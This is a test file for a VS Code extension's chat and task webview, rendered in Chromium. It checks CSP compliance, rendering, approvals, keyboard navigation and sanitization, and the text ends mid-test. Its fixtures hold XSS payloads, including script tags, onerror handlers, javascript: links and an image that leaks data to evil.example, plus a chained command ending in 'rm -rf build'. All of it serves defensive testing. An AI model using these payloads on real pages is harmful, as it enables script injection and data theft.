// The webview in a real browser (Debian chromium) under the shipped CSP, driven through
// a scripted host bridge. Every test also checks that nothing tripped the CSP and that
// no request left the page.
import assert from 'node:assert/strict';
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import { startHarness, type Harness, type WebviewPage } from './harness';
import * as f from './fixtures';
import { TASK_STATUS } from '../../src/core/run/task-status';
import { makeNonce, renderWebviewHtml } from '../../src/extension/webview-html';
import { parseHostMessage, parseWebviewMessage, type WebviewMessage } from '../../src/webview/protocol';

const HOSTILE =
  '<script>window.__pwned = 1</script><img src="https://evil.example/x.png" onerror="window.__pwned = 2">';
const HOSTILE_MARKDOWN = [
  HOSTILE,
  '[click me](javascript:window.__pwned=3)',
  '[run](command:workbench.action.terminal.new)',
  '[open](vscode://file/etc/passwd)',
  '<a href="javascript:window.__pwned=4">raw link</a> <b onmouseover="window.__pwned=5">bold</b>',
  '<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>',
  '![leak](https://evil.example/leak.png?data=secret) ![local](data:image/png;base64,iVBORw0KGgo=)',
  '<svg onload="window.__pwned=6"><circle r="5"/></svg>',
  '[ok link](https://example.com/safe)',
].join('\n\n');
const HOSTILE_PATH = '"><img src=x onerror="window.__pwned=7">.ts';

let harness: Harness;

before(async () => {
  harness = await startHarness();
});
after(async () => {
  await harness?.close();
});

async function clean(w: WebviewPage): Promise<void> {
  assert.deepEqual(await w.violations(), [], 'CSP violations');
  assert.deepEqual(w.strayRequests, [], 'requests left the webview');
  assert.deepEqual(w.consoleErrors, [], 'console errors');
}

async function lastPosted(w: WebviewPage): Promise<WebviewMessage | undefined> {
  const posted = await w.posted();
  return posted[posted.length - 1];
}

async function assertInert(w: WebviewPage): Promise<void> {
  const state = await w.page.evaluate(() => ({
    pwned: (window as Window & { __pwned?: number }).__pwned,
    images: document.querySelectorAll('#root img').length,
    scripts: document.querySelectorAll('#root script, #root iframe, #root style, #root svg').length,
    badLinks: [...document.querySelectorAll<HTMLAnchorElement>('#root a[href]')]
      .map((a) => a.getAttribute('href') ?? '')
      .filter((href) => !/^https?:\/\//.test(href)),
    handlers: [...document.querySelectorAll('#root *')].filter((el) =>
      [...el.attributes].some((a) => a.name.startsWith('on')),
    ).length,
    visible: document.body.innerText.trim().length,
  }));
  assert.equal(state.pwned, undefined, 'hostile script ran');
  assert.equal(state.images, 0, 'an <img> reached the DOM');
  assert.equal(state.scripts, 0, 'script/iframe/style/svg reached the DOM');
  assert.deepEqual(state.badLinks, []);
  assert.equal(state.handlers, 0, 'an inline event handler reached the DOM');
  assert.ok(state.visible > 0, 'blank panel');
}

describe('webview (chromium)', function () {
  let w: WebviewPage;
  beforeEach(async () => {
    w = await harness.open();
  });
  afterEach(async () => {
    await w.page.context().close();
  });

  it('posts ready and renders the snapshot: header, chat markdown, copy button, history', async () => {
    assert.deepEqual((await w.posted())[0], { type: 'ready' });
    await w.send(
      f.init({
        messages: f.conversation,
        history: [{ id: 'h1', kind: 'run', title: 'Earlier run', at: Date.now(), outcome: 'failed' }],
      }),
    );
    const page = w.page;
    assert.equal(await page.locator('.rz-dot[data-health="ok"]').count(), 1);
    assert.equal(await page.locator('.rz-dot[data-health="error"]').count(), 1);
    assert.match((await page.locator('.rz-dot[data-health="error"]').getAttribute('title')) ?? '', /ollama serve/);
    assert.equal(
      await page.locator('#rz-model-worker').evaluate((el) => (el as HTMLElement & { value: string }).value),
      'qwen2.5-coder:14b-instruct',
    );
    assert.equal(await page.locator('.rz-msg').count(), 2);
    assert.equal(await page.locator('.rz-msg-assistant pre code').count(), 1);
    assert.equal(await page.locator('.rz-msg-assistant .rz-copy').count(), 1);
    assert.equal(await page.locator('.rz-msg-assistant a[href="https://example.com/docs"]').count(), 1);
    assert.equal(await page.locator('.rz-msg-user .rz-chip').innerText(), 'src/cli/args.ts:10-24');
    await page.click('#rz-tab-history');
    await w.settle();
    assert.match(await page.locator('.rz-hist').innerText(), /Earlier run[\s\S]*failed/);
    await page.click('.rz-hist-open');
    assert.deepEqual(await lastPosted(w), { type: 'history.open', id: 'h1' });
    await page.click('[data-action="history-delete"]');
    assert.equal((await lastPosted(w))?.type, 'history.open', 'the first Delete click only arms it');
    await page.click('[data-action="history-delete"]');
    assert.deepEqual(await lastPosted(w), { type: 'history.delete', id: 'h1' });
    await clean(w);
  });

  it('renders every run event: statuses, model, elapsed, output, tool calls (collapsed), changed files', async () => {
    await w.send(f.init({ runEvents: f.runningEvents() }));
    const page = w.page;
    await page.click('#rz-tab-tasks');
    await w.settle();
    const status = (id: string) => page.locator(`.rz-task[data-vkey="${id}"] .rz-status`).getAttribute('data-status');
    assert.equal(await status('t1'), 'succeeded');
    assert.equal(await status('t2'), 'running');
    assert.equal(await status('t3'), 'queued');
    assert.match(
      await page.locator('.rz-task[data-vkey="t1"] .rz-meta').innerText(),
      /qwen2\.5-coder:14b-instruct[\s\S]*4\.\ds/,
    );
    assert.match(await page.locator('.rz-bar').innerText(), /Running[\s\S]*1\/3 done[\s\S]*1 running/);
    assert.equal(await page.locator('.rz-task-body').count(), 0, 'collapsed by default');

    await page.click('.rz-task[data-vkey="t1"] .rz-task-head');
    await w.settle();
    const t1 = page.locator('.rz-task[data-vkey="t1"]');
    assert.equal(await t1.locator('.rz-task-item').getAttribute('aria-expanded'), 'true');
    assert.equal(await t1.locator('.rz-output').innerText(), 'Reading the parser.\n');
    assert.equal(await t1.locator('.rz-tool').count(), 2);
    assert.equal(await t1.locator('details[open]').count(), 0, 'tool calls collapsed by default');
    await t1.locator('.rz-tool summary').nth(1).click();
    assert.match(await t1.locator('.rz-tool').nth(1).locator('pre').first().innerText(), /"path": "src\/cli\/args.ts"/);
    await t1.locator('.rz-file').click();
    assert.deepEqual(await lastPosted(w), { type: 'diff.open', path: 'src/cli/args.ts', runId: f.RUN });

    // Streaming into an expanded task appends; a finished tool call updates in place and keeps the open state.
    await page.click('.rz-task[data-vkey="t2"] .rz-task-head');
    await w.send({
      type: 'run.events',
      events: [
        { runId: f.RUN, at: Date.now(), type: 'task.delta', taskId: 't2', text: 'PASS 3 tests' },
        {
          runId: f.RUN,
          at: Date.now(),
          type: 'task.toolResult',
          taskId: 't2',
          record: {
            id: 'c3',
            name: 'execute_bash',
            args: { command: 'npm test' },
            ok: false,
            summary: 'exit 1',
            resultBytes: 6,
            durationMs: 1500,
            startedAt: Date.now(),
          },
        },
      ],
    });
    const t2 = page.locator('.rz-task[data-vkey="t2"]');
    assert.equal(await t2.locator('.rz-output').innerText(), 'Running the tests first.\nPASS 3 tests');
    assert.equal(await t2.locator('.rz-tool').getAttribute('data-state'), 'error');

    // A retried model call is a muted line under the output; the streamed output is patched, not redrawn.
    await t2.locator('.rz-output').evaluate((el) => el.setAttribute('data-marker', 'kept'));
    await w.send({
      type: 'run.events',
      events: [
        {
          runId: f.RUN,
          at: Date.now(),
          type: 'task.retrying',
          taskId: 't2',
          attempt: 1,
          delayMs: 5000,
          reason: 'The provider answered 503: overloaded.',
        },
      ],
    });
    assert.equal(
      await t2.locator('.rz-retry.rz-muted').innerText(),
      'Retrying in 5 s (attempt 2): The provider answered 503: overloaded.',
    );
    assert.equal(await t2.locator('.rz-output').getAttribute('data-marker'), 'kept');

    await page.click('[data-action="cancel-run"]');
    assert.deepEqual(await lastPosted(w), { type: 'run.cancel' });
    await w.send({
      type: 'run.events',
      events: [
        { runId: f.RUN, at: Date.now(), type: 'task.failed', taskId: 't2', error: 'npm test exited with code 1' },
        { runId: f.RUN, at: Date.now(), type: 'task.cancelled', taskId: 't3' },
        { runId: f.RUN, at: Date.now(), type: 'plan.finished', summary: f.summary('failed') },
      ],
    });
    assert.equal(await status('t2'), 'failed');
    // The icons and labels of the terminal's task tree (one table for both).
    for (const [id, shown] of [
      ['t1', TASK_STATUS.succeeded],
      ['t2', TASK_STATUS.failed],
      ['t3', TASK_STATUS.cancelled],
    ] as const) {
      const icon = page.locator(`.rz-task[data-vkey="${id}"] .rz-status`);
      assert.deepEqual([await icon.innerText(), await icon.getAttribute('aria-label')], [shown.icon, shown.label]);
    }
    assert.equal(await status('t3'), 'cancelled');
    assert.match(await t2.locator('.rz-error').innerText(), /exited with code 1/);
    assert.match(await page.locator('.rz-bar').innerText(), /Failed in 1m 05s[\s\S]*1 file changed/);
    await page.click('.rz-task[data-vkey="t2"] [data-action="retry-task"]');
    assert.deepEqual(await lastPosted(w), { type: 'task.retry', runId: f.RUN, taskId: 't2' });
    await page.click('[data-action="undo-run"]');
    assert.deepEqual(await lastPosted(w), { type: 'run.undo', runId: f.RUN });

    await w.send({
      type: 'run.events',
      events: [
        {
          runId: f.RUN,
          at: Date.now(),
          type: 'plan.started',
          plan: { tasks: [{ id: 's', title: 'Skipped one', description: '', dependsOn: [], files: [] }] },
        },
        { runId: f.RUN, at: Date.now(), type: 'task.skipped', taskId: 's', reason: 'a dependency failed' },
      ],
    });
    assert.equal(await status('s'), 'skipped');
    await clean(w);
  });

  it('lists the files a task wrote from the tool-call record, whatever the tool is called', async () => {
    const at = Date.now();
    const result = (id: string, name: string, args: unknown, fileChanged?: string) => ({
      runId: f.RUN,
      at,
      type: 'task.toolResult' as const,
      taskId: 't1',
      record: { id, name, args, ok: true, summary: 'done', resultBytes: 4, durationMs: 1, startedAt: at, fileChanged },
    });
    await w.send(
      f.init({
        runEvents: [
          { runId: f.RUN, at, type: 'plan.started', plan: f.plan },
          { runId: f.RUN, at, type: 'task.started', taskId: 't1', model: 'm', attempt: 1 },
          // A tool with no "write" in its name and no `path` argument that wrote a file…
          result('c1', 'mcp_fs_save', { target: 'docs/notes.md' }, 'docs/notes.md'),
          // …and one whose name and arguments look like a write but that wrote nothing.
          result('c2', 'write_notes_to_memory', { path: 'scratch.txt' }),
        ],
      }),
    );
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    await w.page.click('.rz-task[data-vkey="t1"] .rz-task-head');
    await w.settle();
    assert.deepEqual(await w.page.locator('.rz-task[data-vkey="t1"] .rz-file').allInnerTexts(), ['docs/notes.md']);
    await w.page.locator('.rz-file').click();
    assert.deepEqual(await lastPosted(w), { type: 'diff.open', path: 'docs/notes.md', runId: f.RUN });
    await clean(w);
  });

  it('shows requests in flight and slots per endpoint, and why a queued task waits', async () => {
    const at = Date.now();
    const endpoint = (inFlight: number, slots: number, source: 'learning' | 'learned') => ({
      model: 'qwen2.5-coder',
      endpoint: '127.0.0.1:11434',
      url: 'http://127.0.0.1:11434',
      inFlight,
      slots,
      source,
    });
    await w.send(
      f.init({
        runEvents: [
          { runId: f.RUN, at, type: 'plan.started', plan: f.plan },
          { runId: f.RUN, at, type: 'capacity', endpoints: [endpoint(1, 1, 'learning')] },
          { runId: f.RUN, at, type: 'task.started', taskId: 't1', model: 'qwen2.5-coder', attempt: 1 },
          { runId: f.RUN, at, type: 'task.queued', taskId: 't2' },
          {
            runId: f.RUN,
            at,
            type: 'task.waiting',
            taskId: 't2',
            reason: 'src/cli.ts is held by t1, which is running',
          },
        ],
      }),
    );
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    const bar = w.page.locator('.rz-capacity');
    assert.equal(await bar.innerText(), 'qwen2.5-coder 1/1 @ 127.0.0.1:11434 (finding how many it takes)');
    const waiting = w.page.locator('.rz-task[data-vkey="t2"] .rz-waiting');
    assert.equal(await waiting.innerText(), 'waiting: src/cli.ts is held by t1, which is running');
    await w.send({
      type: 'run.events',
      events: [
        { runId: f.RUN, at, type: 'capacity', endpoints: [endpoint(2, 2, 'learned')] },
        { runId: f.RUN, at, type: 'task.started', taskId: 't2', model: 'qwen2.5-coder', attempt: 1 },
      ],
    });
    await w.settle();
    assert.equal(await bar.innerText(), 'qwen2.5-coder 2/2 @ 127.0.0.1:11434 (found)');
    assert.equal(await waiting.count(), 0, 'a started task no longer says it waits');
    await clean(w);
  });

  it('keeps hostile model text, names and paths inert — live and after a reload restores them', async () => {
    await w.send(
      f.init({
        messages: [
          f.message('h1', 'assistant', HOSTILE_MARKDOWN),
          f.message('h2', 'user', HOSTILE, {
            attachments: [{ id: 'a', path: HOSTILE_PATH, startLine: 1, endLine: 2, text: HOSTILE }],
          }),
        ],
        attachments: [{ id: 'a2', path: HOSTILE_PATH, startLine: 3, endLine: 3, text: HOSTILE }],
        history: [{ id: 'hh', kind: 'chat', title: HOSTILE, at: Date.now() }],
        approvals: [{ id: 'ap', kind: 'write', subject: HOSTILE_PATH, reason: HOSTILE }],
        runEvents: [
          {
            runId: 'r',
            at: Date.now(),
            type: 'plan.started',
            plan: { tasks: [{ id: 'x', title: HOSTILE, description: HOSTILE, dependsOn: [], files: [HOSTILE_PATH] }] },
          },
          { runId: 'r', at: Date.now(), type: 'task.started', taskId: 'x', model: HOSTILE, attempt: 1 },
          { runId: 'r', at: Date.now(), type: 'task.delta', taskId: 'x', text: HOSTILE },
          {
            runId: 'r',
            at: Date.now(),
            type: 'task.retrying',
            taskId: 'x',
            attempt: 1,
            delayMs: 1000,
            reason: HOSTILE,
          },
          {
            runId: 'r',
            at: Date.now(),
            type: 'task.toolResult',
            taskId: 'x',
            record: {
              id: 'c',
              name: 'write_file',
              args: { path: HOSTILE_PATH, content: HOSTILE },
              ok: true,
              summary: HOSTILE,
              resultBytes: 1,
              durationMs: 1,
              startedAt: 1,
              fileChanged: HOSTILE_PATH,
            },
          },
        ],
      }),
    );
    await w.send({ type: 'notice', level: 'error', message: HOSTILE });
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    await w.page.click('.rz-task-head');
    await w.settle();
    await w.page.locator('.rz-tool summary').click();
    await assertInert(w);
    // The hostile text is shown, as text.
    assert.ok((await w.page.locator('.rz-file').innerText()).includes(HOSTILE_PATH));
    assert.ok((await w.page.locator('.rz-output').innerText()).includes('<script>'));
    assert.ok((await w.page.locator('.rz-retry').innerText()).includes('<script>'));
    await w.page.click('#rz-tab-chat');
    await w.settle();
    assert.equal(await w.page.locator('.rz-msg-assistant a[href]').count(), 1, 'only the https link keeps its href');
    assert.match(await w.page.locator('.rz-msg-assistant').innerText(), /\[image: leak\]/);
    await assertInert(w);
    await new Promise((resolve) => setTimeout(resolve, 300));
    await w.reload();
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    await assertInert(w);
    assert.ok((await w.page.locator('.rz-file').innerText()).includes(HOSTILE_PATH), 'restored from state');
    await clean(w);
  });

  it('approval round trip: the exact command, Approve / Deny / Always allow post the right message', async () => {
    await w.send(f.init({ runEvents: f.runningEvents() }));
    const command = 'npm test -- --grep "verbose" && rm -rf build';
    await w.send({
      type: 'approval.requested',
      approval: {
        id: 'ap1',
        runId: f.RUN,
        taskId: 't2',
        kind: 'command',
        subject: command,
        prefix: 'npm test',
        reason: 'chained command',
        where:
          'Sandboxed (bubblewrap): the workspace is writable except protected paths, the rest read-only, no network.',
      },
    });
    const approval = w.page.locator('.rz-approval');
    assert.equal(await approval.locator('.rz-approval-subject').innerText(), command);
    assert.match(await approval.locator('.rz-approval-where').innerText(), /^Sandboxed \(bubblewrap\)/);
    assert.match(await approval.locator('.rz-approval-title').innerText(), /Log each step when verbose/);
    assert.equal(await w.page.locator('#rz-tab-tasks vscode-badge').innerText(), '1');
    await approval.locator('[data-action="approve"]').click();
    assert.deepEqual(await lastPosted(w), { type: 'approval.respond', id: 'ap1', decision: 'approve' });
    await w.settle();
    assert.equal(await approval.locator('[data-action="approve"]').getAttribute('disabled'), '');
    await approval.locator('[data-action="deny"]').click({ force: true });
    assert.equal((await w.posted()).filter((m) => m.type === 'approval.respond').length, 1, 'no second answer');
    await w.send({ type: 'approval.resolved', id: 'ap1', outcome: 'approved' });
    assert.equal(await w.page.locator('.rz-approval').count(), 0);

    await w.send({
      type: 'approval.requested',
      approval: { id: 'ap2', kind: 'command', subject: 'git status', prefix: 'git status' },
    });
    await w.page.click('[data-action="always-allow"]');
    assert.deepEqual(await lastPosted(w), { type: 'approval.respond', id: 'ap2', decision: 'alwaysAllow' });
    await w.send({
      type: 'approval.requested',
      approval: { id: 'ap3', kind: 'write', subject: '.vscode/settings.json' },
    });
    assert.equal(await w.page.locator('.rz-approval').last().locator('[data-action="always-allow"]').count(), 0);
    await w.page.locator('.rz-approval').last().locator('[data-action="deny"]').click();
    assert.deepEqual(await lastPosted(w), { type: 'approval.respond', id: 'ap3', decision: 'deny' });
    await clean(w);
  });

  it('composer: Enter sends text and attachments, Shift+Enter adds a line, chips can be removed', async () => {
    await w.send(f.init());
    const attachment = { id: 'sel1', path: 'src/a.ts', startLine: 3, endLine: 9, text: 'const a = 1;' };
    await w.send({ type: 'attachment.added', attachment });
    await w.send({ type: 'attachment.added', attachment: { ...attachment, id: 'sel2', path: 'src/b.ts' } });
    assert.equal(await w.page.locator('.rz-composer .rz-chip').count(), 2);
    await w.page.click('.rz-composer .rz-chip:nth-child(2) [data-action="remove-attachment"]');
    assert.deepEqual(await lastPosted(w), { type: 'attachment.remove', id: 'sel2' });
    const input = w.page.locator('#rz-input textarea');
    await input.click();
    await w.page.keyboard.type('first line');
    await w.page.keyboard.press('Shift+Enter');
    await w.page.keyboard.type('second line');
    assert.equal(await input.inputValue(), 'first line\nsecond line');
    assert.equal((await lastPosted(w))?.type, 'attachment.remove', 'Shift+Enter did not send');
    await w.page.keyboard.press('Enter');
    assert.deepEqual(await lastPosted(w), {
      type: 'plan.request',
      text: 'first line\nsecond line',
      attachments: [attachment],
    });
    await w.settle();
    assert.equal(await input.inputValue(), '');
    assert.equal(await w.page.locator('.rz-composer .rz-chip').count(), 0);
    await w.page.keyboard.press('Enter');
    assert.equal((await lastPosted(w))?.type, 'plan.request');
    assert.equal((await w.posted()).filter((m) => m.type === 'plan.request').length, 1, 'empty input sends nothing');
    await input.fill('plan this');
    await w.page.click('[data-action="plan"]');
    assert.deepEqual(await lastPosted(w), { type: 'plan.request', text: 'plan this', attachments: [] }, 'Plan tasks');
    await clean(w);
  });

  it('plan review: remove and rename tasks, Run posts the edited plan', async () => {
    await w.send(f.init());
    await w.send({
      type: 'plan.shown',
      planId: 'p1',
      result: {
        plan: f.plan,
        source: 'fallback',
        reason: 'the planner model was unreachable',
        notes: ['request trimmed'],
      },
    });
    assert.equal(await w.page.locator('#rz-tab-tasks').getAttribute('aria-selected'), 'true', 'switches to the plan');
    assert.match(
      await w.page.locator('.rz-bar').innerText(),
      /Plan · 3 tasks[\s\S]*Fallback plan: the planner model was unreachable[\s\S]*request trimmed/,
    );
    // t3 depends on t2: removing t2 first asks whether to drop that edge.
    await w.page.click('.rz-task[data-vkey="t2"] [data-action="remove-task"]');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task').count(), 3, 'nothing removed before the answer');
    await w.page.click('.rz-task[data-vkey="t2"] [data-action="confirm-remove"]');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task').count(), 2);
    await w.page.click('.rz-task[data-vkey="t1"] [data-action="rename-task"]');
    const rename = w.page.locator('input.rz-rename');
    await rename.fill('Add --verbose and -v');
    await rename.press('Enter');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task[data-vkey="t1"] .rz-title').innerText(), 'Add --verbose and -v');
    // Escape abandons a rename.
    await w.page.click('.rz-task[data-vkey="t3"] [data-action="rename-task"]');
    await w.page.locator('input.rz-rename').fill('nope');
    await w.page.locator('input.rz-rename').press('Escape');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task[data-vkey="t3"] .rz-title').innerText(), 'Write tests for --verbose');
    await w.page.click('[data-action="run-plan"]');
    const posted = await lastPosted(w);
    assert.ok(posted?.type === 'plan.run');
    assert.equal(posted.planId, 'p1');
    assert.deepEqual(
      posted.plan.tasks.map((t) => [t.id, t.title, t.dependsOn]),
      [
        ['t1', 'Add --verbose and -v', []],
        ['t3', 'Write tests for --verbose', ['t1']],
      ],
    );
    assert.ok(parseWebviewMessage(posted).ok, 'the host accepts it');
    await w.page.click('[data-action="reset-plan"]');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task').count(), 3);
    await clean(w);
  });

  it('restores state after a reload (getState/setState), also mid-run, before the host answers', async () => {
    await w.send(
      f.init({
        messages: [...f.conversation, f.message('s', 'assistant', 'Half of the ans')],
        runEvents: f.runningEvents(),
      }),
    );
    await w.send({ type: 'plan.shown', planId: 'p2', result: { plan: f.plan, source: 'llm', notes: [] } });
    await w.page.click('.rz-task[data-vkey="t3"] [data-action="remove-task"]');
    await w.page.click('#rz-tab-chat');
    await w.page.locator('#rz-input textarea').fill('unsent draft');
    await w.page.waitForTimeout(400);
    await w.reload();
    assert.equal(await w.page.locator('.rz-msg').count(), 3);
    assert.match(await w.page.locator('.rz-msg').last().innerText(), /Half of the ans/);
    assert.equal(await w.page.locator('#rz-input textarea').inputValue(), 'unsent draft');
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task').count(), 2, 'plan edits survive');
    // The host's snapshot then takes over.
    await w.send(
      f.init({
        messages: [...f.conversation, f.message('s', 'assistant', 'Half of the answer, and the rest.')],
        runEvents: f.runningEvents(),
      }),
    );
    await w.page.click('#rz-tab-chat');
    await w.settle();
    assert.equal(
      await w.page.locator('.rz-msg').last().locator('.rz-msg-body').innerText(),
      'Half of the answer, and the rest.',
    );
    await clean(w);
  });

  it('renders a 1 MB model message and a 10,000-line tool result without a blank panel', async () => {
    await w.send(f.init({ runEvents: f.runningEvents() }));
    const big = `${'word '.repeat(209_715)}THE END`;
    const started = Date.now();
    await w.send({ type: 'chat.append', message: f.message('big', 'assistant', big) });
    assert.ok(Date.now() - started < 5000, 'rendered in reasonable time');
    assert.match(await w.page.locator('.rz-msg-assistant .rz-note').innerText(), /1\.0 MB/);
    assert.ok((await w.page.locator('.rz-plain').evaluate((el) => el.textContent ?? '')).endsWith('THE END'));
    const lines = Array.from({ length: 10_000 }, (_, i) => `line ${i + 1}`).join('\n');
    await w.send({
      type: 'run.events',
      events: [
        {
          runId: f.RUN,
          at: Date.now(),
          type: 'task.toolResult',
          taskId: 't2',
          record: {
            id: 'c3',
            name: 'execute_bash',
            args: { command: 'seq 10000' },
            ok: true,
            summary: lines,
            resultBytes: lines.length,
            durationMs: 5,
            startedAt: Date.now(),
          },
        },
      ],
    });
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    await w.page.click('.rz-task[data-vkey="t2"] .rz-task-head');
    await w.settle();
    await w.page.locator('.rz-task[data-vkey="t2"] .rz-tool summary').click();
    const result = w.page.locator('.rz-task[data-vkey="t2"] .rz-tool pre').last();
    assert.ok((await result.evaluate((el) => el.textContent ?? '')).endsWith('line 10000'));
    const box = await result.boundingBox();
    assert.ok(box && box.height < 800, 'the result scrolls inside its box');
    assert.ok((await w.page.evaluate(() => document.body.innerText.length)) > 0);
    await clean(w);
  });

  it('ignores unknown and malformed host messages, keeping valid events of a batch', async () => {
    await w.send(f.init({ runEvents: f.runningEvents() }));
    const warnings: string[] = [];
    w.page.on('console', (m) => {
      if (m.type() === 'warning') warnings.push(m.text());
    });
    for (const bad of [
      { type: 'bogus', payload: 1 },
      { type: 'chat.append', message: 5 },
      { nope: true },
      { type: 'run.events', events: 'x' },
      { type: 'chat.delta', deltas: [{ id: 'm1', text: 'x' }] },
      { type: 'init', version: 1, snapshot: { messages: 'x' } },
    ]) {
      await w.send(bad);
    }
    await w.page.evaluate(() => {
      window.dispatchEvent(new MessageEvent('message', { data: null }));
      window.dispatchEvent(new MessageEvent('message', { data: 'string' }));
    });
    const mixed: Record<string, unknown> = {
      type: 'run.events',
      events: [
        { type: 'task.delta', runId: f.RUN },
        { runId: f.RUN, at: Date.now(), type: 'task.failed', taskId: 't2', error: 'boom' },
        { runId: f.RUN, at: 1, type: 'task.unknown', taskId: 't1' },
      ],
    };
    await w.send(mixed);
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    assert.equal(await w.page.locator('.rz-task[data-vkey="t2"] .rz-status').getAttribute('data-status'), 'failed');
    assert.equal(await w.page.locator('.rz-task').count(), 3, 'the panel kept its content');
    assert.ok(warnings.some((m) => m.includes('unknown message type "bogus"')));
    assert.ok(
      warnings.some((m) => m.includes('unknown message type "chat.delta"')),
      'the host never streams chat',
    );
    assert.ok(warnings.some((m) => m.includes('2 malformed item(s) dropped')));
    await clean(w);
  });

  it('keeps the DOM bounded for 5,000 messages, tasks and history items', async () => {
    await w.send(f.large(100, true));
    const small = await w.page.evaluate(() => document.querySelectorAll('*').length);
    await w.send(f.large(5000, true));
    const chatNodes = await w.page.evaluate(() => document.querySelectorAll('*').length);
    assert.ok(chatNodes < small * 2, `DOM grew from ${small} to ${chatNodes}`);
    assert.match(
      await w.page.locator('.rz-msg').last().innerText(),
      /Step \*\*4999\*\*|Step 4999/,
      'pinned to the newest message',
    );
    await w.page.locator('.rz-chat-list').evaluate((el) => {
      el.scrollTop = 0;
    });
    await w.settle();
    assert.match(await w.page.locator('.rz-msg').first().innerText(), /Question 0/);
    await w.page.click('#rz-tab-tasks');
    await w.settle();
    assert.ok((await w.page.locator('.rz-task').count()) < 100);
    assert.equal(await w.page.locator('.rz-task').first().getAttribute('aria-setsize'), '5000');
    await w.page.click('#rz-tab-history');
    await w.settle();
    assert.ok((await w.page.locator('.rz-hist').count()) < 100);
    assert.ok((await w.page.evaluate(() => document.querySelectorAll('*').length)) < small * 2);
    await clean(w);
  });

  it('keyboard: arrows, Home and End move through tabs and task rows; Enter and arrows expand', async () => {
    await w.send(f.init({ runEvents: f.runningEvents() }));
    const focusedRow = () =>
      w.page.evaluate(() => (document.activeElement?.closest('[data-vkey]') as HTMLElement | null)?.dataset.vkey);
    const expandedOf = (id: string) =>
      w.page.locator(`.rz-task[data-vkey="${id}"] .rz-task-item`).getAttribute('aria-expanded');
    await w.page.focus('#rz-tab-chat');
    await w.page.keyboard.press('ArrowRight');
    await w.settle();
    assert.equal(await w.page.locator('#rz-tab-tasks').getAttribute('aria-selected'), 'true');
    assert.equal(await w.page.evaluate(() => document.activeElement?.id), 'rz-tab-tasks');
    await w.page.keyboard.press('End');
    assert.equal(await w.page.locator('#rz-tab-history').getAttribute('aria-selected'), 'true');
    assert.equal(await w.page.evaluate(() => document.activeElement?.id), 'rz-tab-history');
    await w.page.keyboard.press('Home');
    assert.equal(await w.page.locator('#rz-tab-chat').getAttribute('aria-selected'), 'true');
    assert.equal(await w.page.evaluate(() => document.activeElement?.id), 'rz-tab-chat');
    await w.page.keyboard.press('ArrowLeft');
    assert.equal(await w.page.evaluate(() => document.activeElement?.id), 'rz-tab-history', 'wraps around');
    await w.page.keyboard.press('ArrowLeft');
    await w.settle();
    assert.equal(await w.page.locator('#rz-tab-tasks').getAttribute('aria-selected'), 'true');
    await w.page.focus('.rz-task[data-vkey="t1"] .rz-task-item');
    await w.page.keyboard.press('ArrowDown');
    assert.equal(await focusedRow(), 't2');
    await w.page.keyboard.press('ArrowRight');
    await w.settle();
    assert.equal(await expandedOf('t2'), 'true');
    assert.equal(await focusedRow(), 't2', 'focus stays on the row it opened');
    await w.page.keyboard.press('ArrowLeft');
    await w.settle();
    assert.equal(await expandedOf('t2'), 'false');
    await w.page.keyboard.press('Enter');
    await w.settle();
    assert.equal(await expandedOf('t2'), 'true', 'Enter opens');
    await w.page.keyboard.press('Space');
    await w.settle();
    assert.equal(await expandedOf('t2'), 'false', 'Space closes');
    await w.page.keyboard.press('End');
    assert.equal(await focusedRow(), 't3');
    assert.equal(await w.page.locator('.rz-task[data-vkey="t3"] .rz-task-item').getAttribute('tabindex'), '0');
    assert.equal(
      await w.page.locator('.rz-task-item[tabindex="0"]').count(),
      1,
      'one row at a time is in the Tab order',
    );
    await w.page.keyboard.press('Home');
    assert.equal(await focusedRow(), 't1');
    await clean(w);
  });

  it('header: Check posts a health check and the dots follow the answer (picking: pickers.test.ts)', async () => {
    await w.send(f.init());
    await w.page.click('[data-action="health-check"]');
    assert.deepEqual(await lastPosted(w), { type: 'health.check' });
    await w.send({
      type: 'models',
      models: { ...f.models, worker: { ...f.models.worker, health: 'ok', healthDetail: undefined } },
    });
    assert.equal(await w.page.locator('.rz-dot[data-health="ok"]').count(), 2);
    await clean(w);
  });

  it('saves light and dark screenshots for the README', async () => {
    const dir = join(__dirname, '..', '..', 'media', 'screenshots');
    await mkdir(dir, { recursive: true });
    for (const theme of ['light', 'dark'] as const) {
      const shot = await harness.open({ theme, width: 420, height: 720 });
      await shot.send(f.init({ messages: f.conversation, runEvents: f.runningEvents() }));
      await shot.send({
        type: 'approval.requested',
        approval: {
          id: 'ap',
          runId: f.RUN,
          taskId: 't2',
          kind: 'command',
          subject: 'npm test -- --grep verbose',
          prefix: 'npm test',
        },
      });
      await shot.page.click('#rz-tab-tasks');
      await shot.settle();
      await shot.page.click('.rz-task[data-vkey="t1"] .rz-task-head');
      await shot.settle();
      await shot.page.screenshot({ path: join(dir, `${theme}.png`) });
      await clean(shot);
      await shot.page.context().close();
    }
  });
});

describe('renderWebviewHtml and the protocol (node)', () => {
  it('emits a strict CSP with a nonce and no unsafe sources', () => {
    const nonce = makeNonce();
    const html = renderWebviewHtml({
      scriptUri: 'https://file+.vscode-resource.vscode-cdn.net/ext/dist/webview.js',
      cspSource: 'https://*.vscode-cdn.net',
      nonce,
      title: '<Rozet & "co">',
    });
    const csp = /content="([^"]+)"/.exec(html)?.[1] ?? '';
    assert.match(csp, /default-src 'none'/);
    assert.match(csp, new RegExp(`script-src 'nonce-${nonce.replace(/[+/=]/g, '\\$&')}'`));
    assert.doesNotMatch(csp, /unsafe-eval|unsafe-inline|\*\s*;|https?:\/\/(?!\*\.vscode-cdn)/);
    assert.match(html, new RegExp(`<script nonce="${nonce.replace(/[+/=]/g, '\\$&')}" src=`));
    assert.match(html, /<title>&lt;Rozet &amp; &quot;co&quot;&gt;<\/title>/);
    assert.notEqual(makeNonce(), nonce);
